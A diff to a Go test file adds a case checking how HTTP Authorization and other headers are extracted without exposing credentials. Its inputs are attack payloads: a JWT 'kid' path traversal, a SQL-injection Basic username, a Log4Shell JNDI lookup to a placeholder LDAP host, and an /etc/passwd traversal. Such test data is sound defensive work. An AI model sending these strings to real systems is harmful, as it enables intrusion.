@@ -119,6 +119,23 @@ func TestFill(t *testing.T) {
 			},
 		},
 		{
+			name: "Authorization: a lookup whole, a JWT's header and a Basic user decoded, never a credential",
+			req: httpReq("GET", "/", []string{
+				"Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiJ9.AAAA",
+				"Proxy-Authorization", "Basic YWRtaW4nIE9SICcxJz0nMSctLSAtOmh1bnRlcjI=",
+				"Authorization", "Bearer ${jndi:ldap://x/a}",
+				"Authorization", "Bearer opaque.token.x", "Authorization", "Basic !!notbase64",
+				"Authorization", "Basic OnNlY3JldA==", // ":secret": no user
+				"Accept-Language", "../../../../etc/passwd", "Accept-Language", "en-GB,en;q=0.9",
+			}, ""),
+			want: []string{
+				`header Authorization.jwt-header={"alg":"HS256","typ":"JWT","kid":"../../../../dev/null"}`,
+				"header Proxy-Authorization.user=admin' OR '1'='1'-- -",
+				"header Authorization=Bearer ${jndi:ldap://x/a}",
+				"header Accept-Language=../../../../etc/passwd",
+			},
+		},
+		{
 			name: "headers: custom and attackable ones, not Authorization nor boring ones",
 			req: httpReq("GET", "/", []string{
 				"user-agent", "Mozilla/5.0", "Referer", "https://a.example/", "Accept", "text/html;q=0.9",
